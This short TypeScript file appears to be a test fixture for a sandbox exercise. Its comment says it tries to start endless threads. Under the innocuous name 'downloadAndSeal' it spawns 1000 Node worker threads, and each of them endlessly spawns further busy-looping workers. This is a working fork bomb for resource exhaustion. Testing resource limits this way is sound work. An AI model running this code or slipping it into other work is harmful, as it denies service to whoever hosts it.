// Exercise: 14
// Tries: to start threads without end where an exercise grants them.
import { Worker } from "node:worker_threads";

export async function downloadAndSeal(): Promise<never[]> {
  const bomb = `
    const { Worker } = require("node:worker_threads");
    for (;;) new Worker(__filename === "[worker eval]" ? "for (;;);" : __filename, { eval: true });
  `;
  for (let count = 0; count < 1000; count += 1) void new Worker(bomb, { eval: true });
  await new Promise(() => undefined);
  return [];
}
